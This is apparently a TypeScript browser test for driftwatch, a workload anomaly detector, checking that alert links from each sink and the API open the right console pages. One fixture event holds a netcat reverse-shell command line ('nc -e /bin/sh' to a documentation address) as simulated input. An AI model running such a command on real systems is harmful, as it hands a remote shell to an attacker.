/**
 * Every link driftwatch emits opens the right page, in headless Chromium: the alert payloads of
 * every sink (Alertmanager, webhook, Slack, Falco, file, stdout), for one deviation and for a
 * group, and the API's `links`. The links are path routes (`/ui/deviations/7`); the console
 * answers them with its page instead of a 404.
 */
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import t from 'tap';
import { NEEDS_CHROMIUM, openOverview } from '../helpers/browser.js';
import { loadConfig } from '../../cli/config.js';
import { FAST, Receiver, readAlertFile, startAlerting, until } from '../helpers/alerting.js';
import { HOUR, learnScene, proc, startHarness, T0 } from '../helpers/api-harness.js';

declare const document: { querySelectorAll(selector: string): { length: number } };


/** Slack escapes `&`, `<` and `>` inside its `<url|text>` links; a reader's client unescapes them. */
function slackLinks(message: { blocks: { type: string; elements?: { text: string }[] }[] }): string[] {
  const text = message.blocks.filter((b) => b.type === 'context').flatMap((b) => b.elements ?? []).map((e) => e.text).join(' ');
  return [...text.matchAll(/<([^|>]+)\|open in driftwatch>/g)].map((m) => m[1]!.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&'));
}

t.test('alert links of every sink open the deviation or the workload in the console', NEEDS_CHROMIUM, async (t) => {
  const h = await startHarness(t);
  const { web, worker } = await learnScene(h);
  const dir = t.testdir();
  const receivers = { alertmanager: new Receiver(), webhook: new Receiver(), slack: new Receiver(), falco: new Receiver() };
  for (const r of Object.values(receivers)) {
    await r.start();
    t.teardown(() => r.close());
  }
  const file = join(dir, 'alerts.jsonl');
  const stdout = new PassThrough();
  const printed: string[] = [];
  stdout.on('data', (c: Buffer) => printed.push(c.toString('utf8')));
  const config = loadConfig({
    env: {},
    overrides: {
      cluster: 'test',
      'collector.http.externalUrl': h.base,
      'collector.alerting': {
        ...FAST,
        sinks: [
          { name: 'am', type: 'alertmanager', urls: [receivers.alertmanager.url] },
          { name: 'hook', type: 'webhook', url: receivers.webhook.url, secret: 'a-secret-of-sixteen-chars' },
          { name: 'chat', type: 'slack', url: receivers.slack.url },
          { name: 'falco', type: 'falco', url: receivers.falco.url },
          { name: 'file', type: 'file', path: file },
          { name: 'out', type: 'stdout' },
        ],
      },
    },
  });
  const alerting = startAlerting(h.store, h.bus, config, { stdout });
  t.teardown(() => alerting.close());
  await alerting.start();

  // One deviation on its own, then a burst in another workload (a grouped alert).
  const single = await h.raise(proc(web, T0 + 3 * HOUR, '/usr/bin/nc', '-e /bin/sh 198.51.100.7 4444'));
  for (let i = 0; i < 7; i++) await h.raise(proc(worker, T0 + 3 * HOUR + 10_000 + i, `/usr/bin/tool-${i}`));
  const amAlerts = (): { annotations: { url?: string }; generatorURL?: string }[] => receivers.alertmanager.requests.flatMap((_r, i) => receivers.alertmanager.json<{ annotations: { url?: string }; generatorURL?: string }[]>(i));
  await until(async () => {
    await alerting.sweep();
    const posted = [receivers.webhook, receivers.slack, receivers.falco].every((r) => r.requests.length >= 2);
    return posted && amAlerts().length >= 2 && readAlertFile(file).length >= 2 && printed.join('').split('\n').filter(Boolean).length >= 2;
  });

  const jsonLines = printed.join('').split('\n').filter(Boolean).map((l) => JSON.parse(l) as { url: string | null });
  const links: Record<string, string[]> = {
    'alertmanager annotations.url': amAlerts().map((a) => a.annotations.url!),
    'alertmanager generatorURL': amAlerts().map((a) => a.generatorURL!),
    'webhook url': receivers.webhook.requests.map((_r, i) => receivers.webhook.json<{ url: string }>(i).url),
    'slack link': receivers.slack.requests.flatMap((_r, i) => slackLinks(receivers.slack.json(i))),
    'falco output_fields': receivers.falco.requests.map((_r, i) => receivers.falco.json<{ output_fields: Record<string, string> }>(i).output_fields['driftwatch.url']!),
    'file url': readAlertFile(file).map((d) => d.url!),
    'file deviations[].url': readAlertFile(file).flatMap((d) => d.deviations.map((b) => b.url)),
    'stdout url': jsonLines.map((d) => d.url!),
  };
  const api = await h.call('GET', `/api/v1/deviations/${single.id}`);
  links['API links'] = Object.values(api.body.links as Record<string, string>).map((u) => h.base + new URL(u).pathname + new URL(u).search);

  const { page, problems } = await openOverview(t, h.base, h.tokens.viewer);

  const opened = new Set<string>();
  for (const [source, urls] of Object.entries(links)) {
    t.ok(urls.length > 0, `${source}: has links`);
    for (const url of urls) {
      t.ok(url.startsWith(`${h.base}/ui/`), `${source}: ${url} points at the console`);
      if (opened.has(url)) continue;
      opened.add(url);
      const res = await page.goto(url);
      t.equal(res?.status(), 200, `${source}: ${url} opens`);
      const path = new URL(url).pathname;
      t.equal(page.url(), `${h.base}/ui/#${path.slice('/ui'.length)}${new URL(url).search}`, `${source}: answered with the console's route`);
      if (/^\/ui\/deviations\/\d+$/.test(path)) {
        const id = Number(path.split('/').pop());
        const d = (await h.call('GET', `/api/v1/deviations/${id}`)).body.deviation as { summary: string };
        await page.waitForSelector('h2:text("Process tree")');
        t.match(await page.textContent('h1'), d.summary, `${source}: deviation ${id} is shown`);
      } else if (path === '/ui/deviations') {
        await page.waitForFunction(() => document.querySelectorAll('table.grid tbody tr[data-id]').length > 0);
        const q = new URL(url).searchParams;
        const workloads = await page.locator('table.grid tbody tr td:nth-child(3)').allTextContents();
        t.ok(workloads.every((w) => w.startsWith(`${q.get('namespace')}/${q.get('workload')}/`)), `${source}: ${workloads.length} rows, all of the linked workload`);
      } else if (/^\/ui\/baselines\/\d+$/.test(path)) {
        await page.waitForSelector('h1');
        t.match(await page.textContent('h1'), 'team-a/web', `${source}: the baseline page`);
      } else {
        t.fail(`${source}: unexpected link ${url}`);
      }
    }
  }
  t.ok(opened.has(`${h.base}/ui/deviations/${single.id}`), 'the single deviation was linked');
  t.ok(opened.has(`${h.base}/ui/deviations?namespace=team-b&workload=worker`), 'the group links to its workload');
  t.same(problems, [], 'no page errors');
});
